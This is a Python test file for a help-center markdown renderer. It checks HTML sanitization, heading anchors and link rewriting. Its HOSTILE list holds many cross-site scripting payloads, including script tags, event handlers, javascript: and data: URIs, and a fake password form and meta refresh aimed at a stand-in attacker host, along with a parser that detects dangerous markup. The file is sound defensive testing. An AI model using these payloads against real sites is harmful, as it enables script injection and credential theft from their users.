"""Markdown becomes safe HTML, and sections that fit the anchors of the page."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb.markdown import outside_code, plain, render, rewrite_links, sections

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x](/a.png" onerror="alert(1))',
    '[x](/a "t\\" onclick=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>body{background:url(//evil.example)}</style>",
    '<div style="position:fixed;background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<h2 onclick=alert(1) id=login>x</h2>",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|-|\n| <b onmouseover=alert(1)>x |",
]
LINKS = {"href", "src"}
SAFE = {"http", "https", "mailto", "tel"}


class Dangers(HTMLParser):
    """Collects what a browser could run or fetch from elsewhere."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        known = re.fullmatch(r"h[1-6]|[a-z]{1,4}|table|tbody|thead|tfoot|small|strong", tag)
        usual = tag in {"blockquote", "caption", "details", "summary", "figure", "video"}
        if not (known or usual) or tag in {"form", "base", "meta", "link", "svg", "math"}:
            self.found.append(tag)
        self.found += [f"{tag} {n}={v}" for n, v in attrs if self.is_bad(n, v or "")]

    @staticmethod
    def is_bad(name: str, value: str) -> bool:
        if name in LINKS:
            scheme = re.match(r"[\s\x00-\x1f]*([a-z][a-z0-9+.\s-]*):", value, re.I)
            return scheme is not None and scheme[1].lower() not in SAFE
        if name == "id":
            return not value.startswith("s-")
        return name not in {"alt", "title", "rel", "width", "height", "start", "class"} | {
            "colspan",
            "rowspan",
        }


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("base_url", ["", "https://help.example.com"])
def test_hostile_article_cannot_run_anything(text: str, base_url: str) -> None:
    for written in (text, f"Before {text} after", f"- {text}", f"> {text}", f"<div>\n{text}"):
        assert Dangers(render(written, base_url)).found == []


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*HOSTILE, "`", "<", ">", '"', "\n\n", "](", "<div ", "-->"])))
def test_no_mixture_of_hostile_pieces_can_run_anything(pieces: list[str]) -> None:
    assert Dangers(render("".join(pieces))).found == []


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_any_text_can_be_rendered_and_read(text: str) -> None:
    assert Dangers(render(text)).found == []
    assert isinstance(plain(text), str)


def test_plain_text_holds_no_script() -> None:
    for text in HOSTILE:
        assert "<script" not in plain(f"<div>{text}</div>").lower()


def test_usual_markdown_is_kept() -> None:
    html = render("1. **Open** [it](/a)\n2. ~~No~~\n\n| a |\n|---|\n| b |\n\n![alt](/m/x.png)")
    for piece in ("<strong>Open</strong>", 'href="/a"', "<s>No</s>", "<td>b</td>", 'alt="alt"'):
        assert piece in html


@pytest.mark.parametrize(
    ("target", "shown"),
    [
        ("/en/articles/a", "https://h.example/en/articles/a"),
        ("//other.example/a", "//other.example/a"),
        ("https://other.example/a", "https://other.example/a"),
        ("#s-steps", "#s-steps"),
        ("mailto:a@b.example", "mailto:a@b.example"),
    ],
)
def test_only_our_own_addresses_get_the_base(target: str, shown: str) -> None:
    assert f'href="{shown}"' in render(f"[x]({target})", "https://h.example")


# -- sections --------------------------------------------------------------------------

BODY = """Before.

## Steps

1. One
2. Two

### If it fails

Ask us.

## Steps

Again.
"""


def test_sections_carry_the_trail_of_their_headings() -> None:
    assert [section.headings for section in sections(BODY)] == [
        (),
        ("Steps",),
        ("Steps", "If it fails"),
        ("Steps",),
    ]


def test_sections_hold_the_words_below_their_heading() -> None:
    assert [section.blocks for section in sections(BODY)] == [
        ["Before."],
        ["One\nTwo"],
        ["Ask us."],
        ["Again."],
    ]


@pytest.mark.parametrize("body", [BODY, "# 步骤\n\na\n\n# مراحل\n\nb\n\n# ???\n\n# Café & *co*"])
def test_anchor_of_a_section_is_the_id_on_the_page(body: str) -> None:
    ids = re.findall(r'<h\d id="([^"]*)"', render(body))
    anchors = [section.anchor for section in sections(body) if section.anchor]
    assert anchors == ids
    assert len(set(ids)) == len(ids)


def test_empty_text_has_no_sections() -> None:
    assert (sections(""), sections(" \n\n"), plain(""), render("")) == ([], [], "", "")


def test_plain_text_is_the_words_alone() -> None:
    text = "## **Steps**\n\nOpen [the page](/a), `code` &amp; <b>bold</b>.\n\n```\nx = 1\n```"
    assert plain(text) == "Steps\nOpen the page, code & bold.\nx = 1"


# -- links and code --------------------------------------------------------------------

IN_CODE = [
    "`[a](b.md)`",
    "``[a](b.md)``",
    "```\n[a](b.md)\n```",
    "```md\n[a](b.md)\n```\n",
    "~~~\n[a](b.md)\n```\n[a](b.md)\n~~~",
    "````\n```\n[a](b.md)\n```\n````",
    "1. Step\n\n   ```\n   [a](b.md)\n   ```\n",
    "- ```\n  [a](b.md)\n  ```\n",
    "> ```\n> [a](b.md)\n> ```\n",
    "```\n[a](b.md)\n\nnever closed",
]


@pytest.mark.parametrize("text", IN_CODE)
def test_link_in_code_is_left_alone(text: str) -> None:
    assert rewrite_links(text, lambda target: "changed") == text
    assert outside_code(text, lambda part: part.replace("b.md", "changed")) == text


@pytest.mark.parametrize("code", IN_CODE[:-1])
def test_link_beside_code_is_changed(code: str) -> None:
    text = f"[x](y.md)\n\n{code}\n\n[x](y.md) end"
    changed = rewrite_links(text, lambda target: target.removesuffix(".md") + "!")
    assert changed == f"[x](y!)\n\n{code}\n\n[x](y!) end"


@pytest.mark.parametrize(
    ("text", "changed"),
    [
        ("[a](b)", "[a](B)"),
        ('![a](b "t")', '![a](B "t")'),
        ("[a](<b>)", "[a](<B>)"),
        ("[a](<b c> 't')", "[a](<B C> 't')"),
        ("[a](b(c))", "[a](B(C))"),
        ("[a](<b)c>)", "[a](<B)C>)"),
        ("[a]: <b c>", "[a]: <B C>"),
        ("[a](b(c", "[a](b(c"),
        ("[a]: b", "[a]: B"),
        ("[![a](b)](b)", "[![a](B)](B)"),
        ("[^1]: b", "[^1]: b"),
        ("(b) [b] b", "(b) [b] b"),
    ],
)
def test_only_targets_of_links_are_changed(text: str, changed: str) -> None:
    assert rewrite_links(text, str.upper) == changed


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="[]()<>!`~#-: \nab./"))
def test_links_left_as_they_are_leave_the_text_as_it_is(text: str) -> None:
    assert rewrite_links(text, lambda target: target) == text
